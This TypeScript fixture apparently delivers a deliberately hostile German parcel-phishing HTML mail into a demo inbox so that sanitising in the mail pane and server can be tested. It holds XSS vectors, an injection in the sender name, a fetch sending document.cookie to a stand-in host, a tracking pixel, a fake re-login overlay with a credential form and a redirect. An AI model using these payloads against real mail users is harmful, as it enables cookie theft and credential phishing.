/** A mail whose HTML tries everything that must not work when the pane or the server shows it; what it says is harmless. */
import type { DemoUser } from '../organisations.ts'
import { addressOf } from './correspondent.ts'
import type { Office } from './office.ts'
import { htmlPage } from './rendering.ts'
import { simpleMessage } from './simple-mail.ts'

export const HOSTILE_SUBJECT = 'Ihre Sendung konnte nicht zugestellt werden'

const content = `<style>body{display:none} .cover{position:fixed;inset:0;z-index:99999;background:#fff} @import url("https://tracking.paketdienst-info.example/style.css");</style>
<div class="cover" style="position:fixed;top:0;left:0;width:100%;height:100%">Ihre Sitzung ist abgelaufen. Bitte melden Sie sich neu an.</div>
<script>window.top.document.title='Script ran'; fetch('https://tracking.paketdienst-info.example/collect?c='+document.cookie)</script>
<img src="x" onerror="window.top.hostileMailRan=true" alt="">
<img src="https://tracking.paketdienst-info.example/pixel.gif?id=7731" width="1" height="1" alt="">
<svg onload="window.top.hostileMailRan=true"><a href="javascript:alert(1)"><text y="20">Sendung verfolgen</text></a></svg>
<p>Guten Tag Herr Petersen,</p>
<p>Ihre Sendung 00340434 liegt zur Abholung bereit. <a href="javascript:window.top.hostileMailRan=true">Neuen Termin w&auml;hlen</a> oder
<a href="https://login.paketdienst-info.example/" onclick="window.top.hostileMailRan=true">https://www.paketdienst.example/sendung</a>.</p>
<form action="https://login.paketdienst-info.example/" method="post"><input name="user" autofocus onfocus="window.top.hostileMailRan=true"><input type="password" name="password"><button>Anmelden</button></form>
<iframe src="javascript:parent.hostileMailRan=true" srcdoc="&lt;script&gt;parent.hostileMailRan=true&lt;/script&gt;"></iframe>
<object data="data:text/html,&lt;script&gt;top.hostileMailRan=true&lt;/script&gt;"></object><base href="https://login.paketdienst-info.example/"><meta http-equiv="refresh" content="0;url=https://login.paketdienst-info.example/">
<p>Ihr Paketdienst</p>`

/** Delivers it to the inbox. */
export function writeHostileMail(office: Office, user: DemoUser): void {
  const message = simpleMessage(office, {
    from: { name: 'Paketdienst "><img src=x onerror=alert(1)>', address: 'service@paketdienst-info.example' },
    to: [addressOf(user)],
    subject: HOSTILE_SUBJECT,
    blocks: [],
    sent: 700,
    html: true,
  })
  const body = htmlPage(content)
  office.post.deliver({ ...message, body, uniqueBody: body, attachments: [] })
}
